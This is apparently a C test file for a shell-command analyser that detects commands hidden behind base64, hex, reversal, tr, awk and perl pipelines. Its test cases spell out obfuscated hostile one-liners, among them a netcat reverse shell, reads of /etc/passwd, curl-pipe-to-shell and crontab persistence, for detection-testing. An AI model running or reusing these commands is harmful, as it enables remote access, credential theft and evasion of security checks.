// SPDX-License-Identifier: GPL-3.0-or-later
/* Shell texts worked out: what hides behind variables, substitutions, loops
 * and pipelines of text commands. */
#include "hidden.h"

#include "check.h"
#include "clock.h"
#include "flow.h"

static const struct hidden good[] = {
	{ "base64", "id;uname -a",
		"echo 'aW-Q7.dW5-hb*WUgLWE='|base64 -di|sh" },
	{ "base64+aes", "id;uname -a",
		"echo bNABH0HE13qsEaWX+vvTKw==|openssl enc -d "
		"-aes-128-cbc -K 00112233445566778899aabbccddeeff -iv 0f -a "
		"-A|sh" },
	{ "join", "cat /etc/passwd", "a=c;b=at;c=/etc/pas;d=swd;$a$b $c$d" },
	/* What other programs hand to a shell. */
	{ "base64", "id;w", "mysql -e '\\! echo aWQ7dw==|base64 -d|sh'" },
	{ "reverse", "id;ls",
		"tar cf x y --checkpoint-action=exec=\"echo 'sl;di'|rev|sh\"" },
	{ "reverse", "id;ls",
		"x=rev;git -c alias.y=\"!echo 'sl;di'|$x|sh\" y" },
	/* The bases of basenc. */
	{ "ascii85", "id; uname -a > /tmp/.z  ",
		"basenc --z85 -d <<'Q' | sh\nx>fpFB-7S8wGSNkau*]3BzU$Ie{XS.\n"
		"Q" },
	{ "hex", "id;w", "basenc --base16 -d <<<69643B77|sh" },
	{ "binary", "id;w",
		"basenc -d --base2msbf "
		"<<<01101001011001000011101101110111|sh" },
	{ "binary", "id;w",
		"basenc --base2lsbf -d "
		"<<<10010110001001101101110011101110|sh" },
	/* What matches, a line each. */
	{ "grep+tr+base64",
		"rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc "
		"192.0.2.10 9001 >/tmp/f",
		"echo 'cm0gLWYgL3Rt.cC9mO21rZmlm.byAvdG1wL2Y7.Y2F0IC90bXAv."
		"ZnwvYmluL3No.IC1pIDI+JjF8.bmMgMTkyLjAu.Mi4xMCA5MDAx."
		"ID4vdG1wL2Y=' | grep -o '[A-Za-z0-9+/=]*' | tr -d '\\n' | "
		"base64 -d | sh" },
	{ "grep+tr+base64", "id -un",
		"echo 'aW#Qg#LX#Vu'|egrep -o '[[:alnum:]]+'|tr -d '\\n'|base64 "
		"-d|sh" },
	{ "grep+base64", "id -un",
		"echo '<a k=\"aWQgLXVu\">'|grep -oP "
		"'k=\"\\K[\\w+/=]{8,}'|base64 "
		"-d|sh" },
	{ "grep+base64", "id -un",
		"grep -Po '(?<=k:)\\S+' <<<'x k:aWQgLXVu y'|base64 -d|sh" },
	{ "grep+base64", "id -un",
		"printf '#!\\naWQg\\n#x\\nLXVu\\n'|grep -v '^#'|base64 -d|sh" },
	{ "grep+cut+base64", "id -un",
		"printf 'z\\nk aWQgLXVu\\nk x\\n'|grep -m1 -F 'k '|cut -d' ' "
		"-f2|base64 -d|sh" },
	{ "grep+reverse", "id;ls",
		"echo 'xx.sl;di.yy'|grep -oiE 'S[^.]+'|rev|sh" },
	{ "grep", "id;ls",
		"echo 'i_.d.;.l.s_'|grep -o '[^_.]'|paste -sd ''|sh" },
	/* What is looked for stands for itself. */
	{ "base64", "id -un",
		"$(which echo) aWQgLXVu|$(command -v base64) -d|$(command -v "
		"sh)" },
	{ "base64", "id -un",
		"`which echo` aWQgLXVu|\"`type -P base64`\" -d|`type -p sh`" },
	{ "base64", "id -un",
		"b=$(/usr/bin/which \"base\"64 2>/dev/null);$(which sudo) "
		"`which echo` aWQgLXVu|$b -d|sh" },
	{ "reverse", "id;ls",
		"x=rev;echo 'sl;di'|$(command -v $x)|$(type -p bash)" },
	{ "reverse", "id;ls",
		"if [ -z \"$(which rev)\" ];then apt install rev;else echo "
		"'sl;di'|$(which rev)|sh;fi" },
	{ "reverse", "id;ls",
		"if [ \"`which curl`\" ];then curl x;else for i in s l;do "
		"y=$y$i;done;echo \"$y;di\"|rev|sh;fi" },
	{ "reverse", "id;ls",
		"if [ \"`which curl`\" ];then curl x;else y='sl;di';rev "
		"<<<$y|sh;fi" },
	/* Programs as filters. */
	{ "reverse", "curl -s h|sh",
		"echo 'hs|h s- lruc'|awk '{for(i=length($0);i;i--)"
		"printf \"%s\",substr($0,i,1)}'|sh" },
	{ "charcode", "id;ls -l",
		"echo 105 100 59 108 115 32 45 108|awk "
		"'{for(i=1;i<=NF;i++)printf \"%c\",$i}'|sh" },
	{ "tr+tr+charcode", "id;ls -l",
		"echo 106,101,60,109,116,33,46,109|tr , ' '|tr ' ' '\\n'|awk "
		"'NR>0{printf \"%c\",$1-1}'|sh" },
	{ "charcode", "id;ls",
		"echo 'je<mt'|perl -pe 's/(.)/chr(ord($1)-1)/ge'|sh" },
	{ "charcode", "id;l",
		"echo 69643b6c|perl -ne 's/([A-F0-9]{2})/print chr hex $1/gie'"
		"|sh" },
	{ "charcode", "id;l",
		"echo 69-64-3b-6c|perl -F- -lane 'print map{chr hex}@F'|sh" },
	{ "charcode", "Id;l",
		"echo 69643b6c|perl -pe 's/(..)/chr hex $1/ge;' -e 's/i/I/'"
		"|sh" },
	{ "charcode", "id;l",
		"echo 105 100 59 108|awk 'BEGIN{RS=\" \"}{printf \"%c\",$1}'"
		"|sh" },
	/* Programs that are not there as they are. */
	{ "hex", "id;l",
		"perl${IFS}-e${IFS}system${IFS}-e${IFS}pack${IFS}-e${IFS}"
		"qq^H8^,qq^69643b6c^" },
	{ "hex", "id;l", "a=69643b6c;ruby -e \"system(['$a'].pack('H*'))\"" },
	{ "charcode", "id;ls",
		"echo 'je<mt'|python3 -c 'import sys;print(\"\".join(chr(ord(c)"
		"-1) for c in sys.stdin.read().strip()))'|sh" },
	{ "charcode", "id;ls",
		"echo 'je<mt'|ruby -e 'puts STDIN.read.chomp.chars.map{|c|"
		"(c.ord-1).chr}.join'|sh" },
	{ "printf", "id", "eval $(printf \"\\x69\\x64\")" },
	{ "printf", "whoami",
		"for c in 77 68 6f 61 6d 69; do printf \"\\x$c\"; done | sh" },
	{ "base64", "whoami", "a=who;b=ami;echo d2hvYW1p | base64 -d | sh" },
	{ "base64", "whoami",
		"echo d2hvYW1p | while read l; do echo $l | base64 -d | sh; "
		"done" },
	{ "base64", "id;w", "base64 -d <(echo aWQ7dw==) | sh" },
	{ "base64", "id;w", "dd <<< aWQ7dw== | base64 -d | sh" },
	{ "base64", "id;w", "bash <(echo aWQ7dw== | base64 -d)" },
	{ "base64", "id;w", ". <(base64 -d <<< aWQ7dw==)" },
	{ "base64", "id;w",
		"source /dev/stdin <<< \"$(echo aWQ7dw== | base64 -d)\"" },
	{ "base64", "id;w", "echo aWQ7dw== > /tmp/x; base64 -d /tmp/x | sh" },
	{ "base64", "id;w",
		"echo aWQ7dw== > /tmp/x && cat /tmp/x | base64 -d | sh" },
	{ "base64", "id;w", "echo aWQ7dw== | base64 -d > /tmp/y; sh /tmp/y" },
	{ "base64", "id;w", "base64 --decode << EOF | bash\naWQ7dw==\nEOF" },
	{ "base64", "id;w", "B=base64; $B -d <<< aWQ7dw== | sh" },
	{ "base64", "id;w", "b=64; echo aWQ7dw== | base$b -d | sh" },
	{ "base64", "id;w", "echo aWQ7dw== | \"base\"64 -d | s\"\"h" },
	{ "base64", "id;w", "echo aWQ7dw== | \\base64 -d | /bin/bash" },
	{ "base64", "id;w", "f(){ base64 -d; }; echo aWQ7dw== | f | sh" },
	{ "base64", "id;w", "echo aWQ7dw==|(base64 -d||base64 -D)|sh" },
	{ "base64", "id;w", "x=\"aWQ7dw==\"; base64 -d <<< \"$x\" | sh" },
	{ "base64", "id;w", "sh -c \"echo aWQ7dw== | base64 -d | sh\"" },
	{ "base64", "id;w", "bash -c \"$(echo aWQ7dw== | base64 -d)\"" },
	{ "base64", "id;w",
		"bash -c 'bash -c \"echo aWQ7dw== | base64 -d | sh\"'" },
	{ "base64", "id;w",
		"echo \"ZWNobyBhV1E3ZHc9PSB8IGJhc2U2NCAtZCB8IHNo\" | base64 -d "
		"| sh" },
	{ "base64", "id;w",
		"x=7734643751576175; echo aWQ7dw== | base64 -d | sh" },
	{ "hex", "id;w", "echo 6964 3b77 | xxd -r -p | sh" },
	{ "printf+base64", "id;w",
		"echo -e \"\\x61\\x57\\x51\\x37\\x64\\x77\\x3d\\x3d\" | base64 "
		"-d | sh" },
	{ "printf", "id;w",
		"printf \"%b\" \"\\\\0151\\\\0144\\\\073\\\\0167\" | sh" },
	{ "reverse", "id;w", "echo w\\;di | rev | sh" },
	{ "tr", "curl -A \"kworker/1.0\"",
		"echo '4FC= \\p Q<H@C<6C^`]_Q' | tr '!-~' 'P-~!-O' | bash" },
	{ "tr+tr", "id;w", "echo \"id;w\" | tr a-z A-Z | tr A-Z a-z | sh" },
	{ "reverse", "id;w", "cat <<< \"w;di\" | rev | bash" },
	{ "base64", "id;w",
		"awk 'BEGIN{print \"aWQ7dw==\"}' | base64 -d | sh" },
	{ "base64", "id;w",
		"python3 -c 'print(\"aWQ7dw==\")' | base64 -d | sh" },
	{ "base64", "id;w", "perl -e 'print \"aWQ7dw==\"' | base64 -d | sh" },
	{ "base64", "id;w", "echo aWQ7dw== | base64 -d | tee /tmp/x | sh" },
	{ "base64", "id;w",
		"echo aWQ7dw== | base64 -d | xargs -I{} sh -c \"{}\"" },
	{ "base64", "id;w", "echo aWQ7dw== | base64 -d | at now" },
	{ "base64", "id;w", "ssh u@h \"echo aWQ7dw== | base64 -d | sh\"" },
	{ "base64", "id;w",
		"sudo -u root bash -c \"echo aWQ7dw== | base64 -d | bash\"" },
	{ "base64", "id;w",
		"nohup bash -c \"echo aWQ7dw==|base64 -d|bash\" >/dev/null "
		"2>&1 &" },
	{ "reverse", "id;w", "trap \"echo 'w;di' | rev | sh\" EXIT" },
	{ "reverse", "id;w", "alias l=ls m=\"echo 'w;di' | rev | sh\"" },
	{ "reverse", "id;w",
		"echo \"*/5 1-3 * * * echo 'w;di' | rev | sh\" | crontab -" },
	{ "reverse", "id;w",
		"printf 'A=b\\n@daily echo \"w;di\" | rev | sh' | crontab" },
	{ "base64", "id;w", "{ echo aWQ7dw==; } | base64 -d | sh" },
	{ "base64", "id;w",
		"if true; then echo aWQ7dw== | base64 -d | sh; fi" },
	{ "base64", "id;w",
		"while :; do echo aWQ7dw== | base64 -d | sh; sleep 60; done" },
	{ "base64", "id;w", "command -v x || echo aWQ7dw== | base64 -d | sh" },
	{ "base64", "id;w", "true && { base64 -d | sh; } <<< aWQ7dw==" },
	{ "base64", "id;w",
		"a=aW; b=Q7dw; c=\"==\"; eval \"$(base64 -d <<< $a$b$c)\"" },
	{ "base64", "id;w",
		"arr=(aWQ7 dw==); echo ${arr[0]}${arr[1]} | base64 -d | sh" },
	{ "tr+base64", "id;w",
		"arr=(aWQ7 dw==); echo \"${arr[*]}\" | tr -d \" \" | base64 -d "
		"| sh" },
	{ "base64", "id;w", "x=XXaWQ7dw==; echo ${x#XX} | base64 -d | sh" },
	{ "base64", "id;w", "x=aWQ7XXdw==; echo ${x//XX/} | base64 -d | sh" },
	{ "base64", "id;w", "x=aWQ7dw==YY; echo ${x%YY} | base64 -d | sh" },
	{ "base64", "id;w", "x=ABaWQ7dw==CD; echo ${x:2:8} | base64 -d | sh" },
	{ "base64", "id;w", "echo aWQ7dw=== | base64 -d 2>/dev/null | sh" },
	{ "base64", "id;w", "openssl base64 -d <<< aWQ7dw== | sh" },
	{ "base64", "id;w", "echo aWQ7dw== | openssl enc -base64 -d | sh" },
	{ "base64", "id;w",
		"echo aWQ7dw== | python3 -c 'import "
		"sys,base64;print(base64.b64decode(sys.stdin.read()).decode())'"
		" | sh" },
	{ "base64", "id;w",
		"echo aWQ7dw== | perl -MMIME::Base64 -ne 'print "
		"decode_base64($_)' | sh" },
	{ "base64", "id;w",
		"echo aWQ7dw== | php -r 'echo "
		"base64_decode(file_get_contents(\"php://stdin\"));' | sh" },
	{ "base64", "id;w",
		"echo aWQ7dw== | ruby -rbase64 -e 'print "
		"Base64.decode64(STDIN.read)' | sh" },
	{ "base64", "id;w",
		"echo aWQ7dw== | node -e "
		"'process.stdout.write(Buffer.from(require(\"fs\")."
		"readFileSync(0).toString(),\"base64\").toString())' | sh" },
	{ "base64", "id;w", "echo aWQ7dw== | busybox base64 -d | busybox sh" },
	{ "base32", "id;w", "echo 'NFSDW5Y=' | base32 -d | sh" },
	{ "tr", "id;w", "echo 'vq;j' | tr '[a-z]' '[n-za-m]' | sh" },
	{ "tr+base64", "id;w",
		"echo \"aWQ7 dw==\" | tr -d \"[:space:]\" | base64 -d | sh" },
	{ "sed+base64", "id;w",
		"echo \"a.W.Q.7.d.w.=.=\" | sed \"s/\\.//g\" | base64 -d | "
		"sh" },
	{ "cut+base64", "id;w",
		"echo \"foo:aWQ7dw==:bar\" | cut -d: -f2 | base64 -d | sh" },
	{ "base64", "id;w",
		"echo 'foo aWQ7dw== bar' | awk '{print $2}' | base64 -d | sh" },
	{ "grep+base64", "id;w",
		"grep -o 'aWQ.*' <<< 'junk aWQ7dw==' | base64 -d | sh" },
	{ "base64+gzip", "id;w",
		"echo H4sIAAAAAAAAA8tMsS4HAOeCUEwEAAAA | base64 -d | zcat | "
		"sh" },
	{ "base64", "id;w", "X=$(echo aWQ7dw== | base64 -d); $X" },
	{ "base64", "id;w", "X=`echo aWQ7dw== | base64 -d`; eval $X" },
	{ "reverse+reverse+base64", "id;w",
		"echo aWQ7dw==|rev|rev|base64 -d|sh" },
	{ "base64", "id;w", "printf '%s' 'aWQ7' 'dw==' | base64 -d | sh" },
	{ "printf", "id;w", "printf '\\151\\144\\073\\167' | sh" },
	{ "printf", "id", "$(printf '\\151\\144')" },
	{ "hex", "id;w",
		"echo -n 'aWQ7ZHc9' > /dev/null; xxd -r -p <<< 69643b77 | "
		"bash" },
	{ "base64", "id;w",
		"echo \"Y29tbWFuZA==\" > /dev/null; echo \"aWQ7dw==\" | base64 "
		"-d > /tmp/.a && bash /tmp/.a" },
	{ "base64", "id;w", "read x <<< aWQ7dw==; echo $x | base64 -d | sh" },
	{ "tr+base64", "id;w",
		"tr -d \"\\n\" <<< \"aWQ7\ndw==\" | base64 -d | sh" },
	{ "base64", "id;w",
		"env X=aWQ7dw== sh -c \"echo \\$X | base64 -d | sh\"" },
	{ "base64", "id;w", "X=aWQ7dw== bash -c \"echo \\$X|base64 -d|bash\"" },
	{ "base64", "id;w",
		"export X=aWQ7dw==; sh -c \"echo \\$X | base64 -d | sh\"" },
	{ "base64", "id;w", "printf aWQ7dw== | base64 -d | bash -" },
	{ "base64", "id;w", "exec 3<<<aWQ7dw==; base64 -d <&3 | sh" },
	{ "base64", "id;w",
		"paste -sd \"\" <<< \"aWQ7dw==\" | base64 -d | sh" },
	{ "head+base64", "id;w",
		"head -c 8 <<< aWQ7dw==garbage | base64 -d | sh" },
	/* The here-string's newline is its last byte. */
	{ "reverse+base64", "id;w",
		"rev <<< ==wd7QWa|head -c -1|base64 -d|sh" },
	{ "head+base64", "id;w", "head -c -3 <<< aWQ7dw==xx|base64 -d|sh" },
	{ "tail+base64", "id;w", "tail -c 9 <<< xxaWQ7dw==|base64 -d|sh" },
	{ "tail+head+base64", "id;w",
		"printf 'x\\naWQ7dw==\\nx'|tail -n +2|head -n -1|base64 "
		"-d|sh" },
	/* xargs alone is echo, and by pieces it is run again and again. */
	{ "reverse+tr+base64", "id;w",
		"echo w== 7d aWQ|xargs -n1|tac|tr -d '\\n'|base64 -d|sh" },
	{ "reverse+tr+base64", "id;w",
		"echo w== 7d aWQ|xargs -n 1 echo|tac|tr -d '\\n'|base64 "
		"-d|sh" },
	{ "reverse+tr+base64", "id;w",
		"printf '%s\\n' 'd w==' 'aW Q7'|xargs -L1|tac|tr -d ' \\n'|"
		"base64 -d|sh" },
	/* Nothing behind \c is written, nor a newline. */
	{ "base64", "id;w", "{ echo -e 'aWQ7\\c' x;echo dw==;}|base64 -d|sh" },
	{ "printf", "id;w", "echo -e '\\0151\\0144\\073\\0167\\cx' x|sh" },
	{ "printf", "id;w",
		"printf '%b x' '\\0151\\0144\\073\\0167\\c x' y|sh" },
	/* What is in awk's BEGIN alone reads nothing; gsub changes its third.
	 */
	{ "base64", "id;w",
		"awk 'BEGIN{s=\"aW~Q71~d~w==\";gsub(/[0-9]?~/,\"\",s);printf "
		"\"%s\",s}'|base64 -d|sh" },
	{ "base64", "id;w",
		"echo x|awk '{s=\"a#WQ7#dw==\";gsub(/#/,\"\",s);print "
		"s}'|base64 "
		"-d|sh" },
	{ "base64", "id;w",
		"echo 'x#aWQ7~dw=~='|awk '{gsub(/~/,\"\");gsub(/#/,\" \");"
		"print $2}'|base64 -d|sh" },
	{ "base64", "iptables -S; echo",
		"a=(aXB0YWJsZXM gLVM7IGVjaG8=);eval \"$(base64 -d <<< "
		"${(j::)a})\"" },
	{ "join", "curl -s h|sh",
		"a=(cu rl\\ -s\\ h '|sh');eval \"${(j..)a}\"" },
	{ "base64", "id;w", "set -- aWQ7dw==; echo $1 | base64 -d | sh" },
	{ "base64", "id;w", "sh -c 'echo $0 | base64 -d | sh' aWQ7dw==" },
	{ "reverse+base64", "id;w",
		"echo \"==wd7QWa\" | rev | base64 -d | sh" },
	{ "reverse+base64", "id;w",
		"perl -e 'print reverse \"==wd7QWa\"' | base64 -d | sh" },
	{ "base64", "id;w", "fold -w4 <<< aWQ7dw== | base64 -di | sh" },
	{ "base64", "id;w", "declare -r P=aWQ7dw==; base64 -d <<<\"${P}\"|sh" },
	{ "base64", "id;w",
		"function d { echo \"$1\" | base64 -d; }; d aWQ7dw== | sh" },
	{ "base64", "id;w", "alias b=\"base64 -d\"; echo aWQ7dw== | b | sh" },
};

/* Text that is reshaped and given to no interpreter, and what nobody knows. */
static const char *const not [] = { "t=curl; $t -o /tmp/x$t h",
	"for t in curl wget; do $t --version; done",
	"basenc --z85 <<<'id; uname -a'|sh",
	/* Of lines that are picked nothing is hidden, and of other patterns
	 * nobody knows. */
	"printf 'make all\\n#x\\nmake test\\n'|grep -v '#'|sh",
	"echo 'a.b'|grep -oE '(a|b)+'|rev|sh",
	"echo 'sl;di'|grep -oP '(?=s).*'|rev|sh",
	"echo 'sl;di'|grep -c ';'|rev|sh", "echo 'sl;di'|grep zz|rev|sh",
	"echo 'sl;di'|grep -o ';' /etc/passwd|rev|sh",
	"echo 'sl;di'|grep -o '\\<di'|rev|sh",
	/* What is looked for is not hidden. */
	"$(which python3) -c 'print(1)'|$(command -v grep) 1",
	"exec \"$(command -v bash)\" -c 'make all'",
	"x=`which curl || which wget`; $x -s http://192.0.2.1/a | tee a",
	"for x in $(which -a python python3); do $x -V; done",
	"command -p rev <<<\"$(which sh)\"",
	/* What is not known of a filter's output. */
	"echo 'w;di'|awk '/zz/{for(i=length($0);i;i--)printf "
	"\"%s\",substr($0,i,1)}'|sh",
	"echo 'je<mt'|python3 -c 'import sys;s=sys.stdin.read().strip();"
	"print(\"\".join(chr(ord(c)-1) for c in s[:2]),end=\"\");"
	"print(f(s),end=\"\");"
	"print(\"\".join(chr(ord(c)-1) for c in s[2:]))'|sh",
	"perl -e system -e pack -e $x", "a=x;perl -e \"print '$a'\"",
	"awk -vRS= '{print $1}' <<< a|sh", "echo a b c|awk '{print $2,$1}'|sh",
	"seq 3|awk '{s+=$1}END{print s}'", "echo a:b|awk -F: '{print $2}'|sh",
	"ps|awk 'NR>1{print $1}'|sh", "printf '%s\\n' b a|awk '/a/{print}'|sh",
	"cat <<E | sed \"s/@USER@/bob/\" | sh\necho @USER@ is here\nE",
	"echo 'print(1)' | sed 's/1/2/' | python3",
	"eval \"$(echo 'export A=b' | sed 's/b/c/')\"", "echo racecar | rev",
	"echo a.tar.gz | rev | cut -d. -f2- | rev",
	"x=$(echo HELLO | tr A-Z a-z); echo $x",
	"echo $PATH | tr : '\\n' | sort", "ls | cut -c1-8 | sh",
	"cat /tmp/x | base64 -d | sh", "curl -s http://a/b | base64 -d | sh",
	"echo $1 | base64 -d", "echo hello | base64",
	"echo hello | base64 | tr -d '\\n'", "echo test | sed 's/t/T/g'",
	"for i in 1 2 3; do echo $i; done", "printf '%s\\n' a b c | tac",
	"echo 'a b c' | awk '{print $2}'", "date +%s | sha256sum | head -c 32",
	"echo -e '\\033[31mred\\033[0m'", "printf '\\n'", "echo y | bash x.sh",
	"ls|xargs -n1|tac", "echo a b c|xargs -n1|tac",
	"seq 3|xargs -L1|tr -d '\\n'", "git ls-files|xargs -n1 dirname|sort -u",
	"awk 'BEGIN{s=\"a-b\";gsub(/-/,\"\",s);print s}'",
	"awk 'BEGIN{FS=\":\"}{gsub(/-/,\"\",$1);print}'|sh",
	"a=(b c);echo ${(j:,:)a} ${(U)a}", "echo ${(j", "echo ${(j:}",
	"sed 's/a/b/' <<< banana", "echo foo | xargs echo",
	"v=1.2.3; echo ${v%.*}; echo ${v//./-}", "base64 -d <<< '####'",
	"trap 'sort /tmp/a | rev' EXIT", "alias l='ls | tail -n 3'",
	"echo '* * * * * ls | rev' | crontab -",
	"tr a-z A-Z <<< \"$USER\" | bash", "echo | base64 -d | sh" };

static struct str text;

static void repeat(const char *what, size_t len)
{
	str_reset(&text);
	while (text.len < len)
		str_addz(&text, what);
}

static double run_ms(struct flow *fl, const char *head, const char *what,
	const char *tail, size_t len)
{
	struct str all;
	double best = 1e9;

	repeat(what, len);
	str_init(&all, 1 << 20);
	str_addz(&all, head);
	str_addb(&all, str_bytes(&text));
	str_addz(&all, tail);
	for (int i = 0; i < 3; i++) {
		double ms = clock_ms();

		flow_renew(fl);
		flow_run(fl, str_bytes(&all));
		ms = clock_ms() - ms;
		best = ms < best ? ms : best;
	}
	str_fini(&all);
	return best;
}

#define LONGEST  (128 * 1024)
#define LIMIT_MS 25
#define TRIES    5

/* What is made to take long takes as long as it is. */
static void test_time(void)
{
	static const struct {
		const char *head, *what, *tail;
	} rows[] = { { "echo YQ==", "|rev", "|sh" },
		{ "echo x", "|tr a b|sed s/a/b/g", "" },
		{ "", "a=$a$a;b=$(echo $a|rev);", "echo $b|base64 -d" },
		{ "", "$(echo ", "" }, { "", "x=`echo a`;", "" },
		{ "echo ", "YWJj", "|base64 -d|base64 -d|rev|rev|rev|sh" },
		{ "echo ", "aaaa", "|sed 's/a*a*a*a*b//g'|sh" },
		{ "echo ", "aaaa", "|grep -o 'a*a*a*a*b'|sh" },
		{ "echo ", "ab", "|grep -oP 'a*\\Kb*'|sh" },
		{ "echo ", "a ", "|grep -vF b|grep -oF 'a a'|sh" },
		{ "echo ", "abcd", "|sed 's/\\(.\\)\\(.\\)/\\2\\1/g'|sh" },
		{ "(", "echo a;", ")|base64 -d|sh" },
		{ "", "for i in 1 2 3 4;do echo $i|rev;done;", "" },
		{ "echo ", "a,b,", "|cut -d, -f1-9999,3,5,7|sh" },
		{ "", "<<<x rev|", "sh" }, { "", "{ ", "" },
		{ "", "x=aaaaaaaaaaaaaaa;", "echo $x$x$x|base64 -d|sh" },
		{ "x=", "ab", ";echo ${x//ab/abab}${x//a/bbbb}|rev|sh" },
		{ "echo ", "a ", "|xargs printf %s|xargs -n1 echo|sh" },
		{ "echo ", "a ", "|xargs -n1|tac|base64 -d|sh" },
		{ "echo ", "a ", "|xargs -L1|tac|base64 -d|sh" },
		{ "", "awk 'BEGIN{gsub(/a/,x,x)}'|sh;", "" },
		{ "echo aaaa|awk '{", "gsub(/a/,\"b\");", "print}'|sh" },
		{ "a=(b c);eval ", "${(j:::)a}${(j", "" },
		{ "", "bash -c 'echo x|rev';", "" },
		{ "eval ", "'echo YQ==|base64 -d';", "" },
		{ "", "while :;do x=$x$x;done;", "eval $x" },
		{ "for((i=0;i<999999;i++));do x+=", "a", ";done;eval $x" },
		{ "x=", "ab", ";while [ -n \"$x\" ];do x=${x#?};done;eval $x" },
		{ "x=", "ab", ";while [ $x ];do y=$y$x;x=${x%?};done;eval $y" },
		{ "x=", "ab", ";eval ${x//a*b*c/d}${x##*a*a*a*c}" },
		{ "", "eval a$b;", "" }, { "eval $a ", "{a,b}", "" },
		{ "eval $a ", "{a,", "" }, { "a=(", "b ", ");eval ${a[*]}" },
		{ "a=(", "b ", ");for i in {1..999};do eval ${a[i]}$a;done" },
		{ "f(){ f;f;};f;", "f $x;", "eval" },
		{ "f(){ f $1", "a", ";f;};f;eval" },
		{ "eval $a;", "cat <<a;", "" },
		{ "eval $a;", "case $x in a) ;;", "" },
		{ "eval $((", "(1+", "" }, { "eval $((", "2**", "1))" },
		{ "eval $x;[[ ", "! ", "x ]]" }, { "eval ", "${x:-", "" },
		{ "eval ", "${x/", "" }, { "eval ", "${x//a/${x", "" },
		{ "eval $x;", "if a;then ", "" },
		{ "eval $x;", "while read x;do ", "" },
		{ "eval $x;", "<(", "" }, { "eval $x;", "`a", "" },
		{ "eval $x;", "x[", "" }, { "eval $x;", "x[1]=a;", "" },
		{ "eval $x;", "set -- $* a b;", "" },
		{ "eval $x <<<'", "a\n",
			"';while read x;do y+=$x;done <<<\"$z\"" },
		{ "x='", "a\n", "';while read y;do eval $y$z;done <<<\"$x\"" },
		{ "",
			"echo dv|awk '{for(i=1;i<=length($0);i++)printf "
			"\"%c\",substr($0,i,1)}'|sh;",
			"" },
		{ "",
			"echo a|python3 -c 'import sys;"
			"print(sys.stdin.read()[::-1])'|sh;",
			"" },
		{ "",
			"echo "
			"U2FsdGVkX1/ZYY+5TSutpmOCDx0y0Ahaz6cPnibq0CY=|openssl "
			"aes-256-cbc -d -pbkdf2 -a -A -k p|sh;",
			"" },
		{ "echo ", "a ", "|awk '{for(i=NF;i;i--)printf $i}'|sh" },
		{ "awk '{x=x $0;print x}' <<'E'|sh\n", "ab\n", "E\n" },
		{ "perl -pe '", "s/a/b/;s/b/a/;", "'<<<aaaa|sh" },
		{ "a=$x;perl", " -e $IFS", "" }, { "a=q;", "perl -e $a;", "" },
		{ "perl -pe ''", " -e 's/a/b/'", "<<<aaaa|sh" } };
	struct flow *fl = flow_new();

	for (size_t i = 0; fl && i < sizeof(rows) / sizeof(rows[0]); i++) {
		double quarter = 0, all = 0, limit = 0;

		check_start("time: %s%s...%s", rows[i].head, rows[i].what,
			rows[i].tail);
		for (int k = 0; k < TRIES; k++) {
			quarter = run_ms(fl, rows[i].head, rows[i].what,
				rows[i].tail, LONGEST / 4);
			all = run_ms(fl, rows[i].head, rows[i].what,
				rows[i].tail, LONGEST);
			limit = clock_limit_ms(LIMIT_MS);
			if (all < 1 || (all < limit && all < 8 * quarter))
				break;
		}
		printf("# %zu: quarter %.2f ms, all %.2f ms\n", i, quarter,
			all);
		CHECK(all < limit);
		CHECK(all < 1 || all < 8 * quarter);
	}
	flow_free(fl);
}

/* A sanitizer sees what is read before the first byte of a command's name. */
static void test_names(void)
{
	static const char *const names[] = { "d", "dd", "at", "cat" };
	struct flow *fl = flow_new();

	for (size_t i = 0; fl && i < sizeof(names) / sizeof(names[0]); i++) {
		check_start("name: %s", names[i]);
		CHECK_EQ(flow_run(fl, bytes_of(names[i])), 0);
	}
	flow_free(fl);
}

int main(void)
{
	check.module = "flow";
	str_init(&text, 1 << 20);
	hidden_good(good, sizeof(good) / sizeof(good[0]));
	hidden_not(not, sizeof(not ) / sizeof(not [0]));
	test_names();
	if (check_has_clock("time"))
		test_time();
	str_fini(&text);
	return check_end();
}
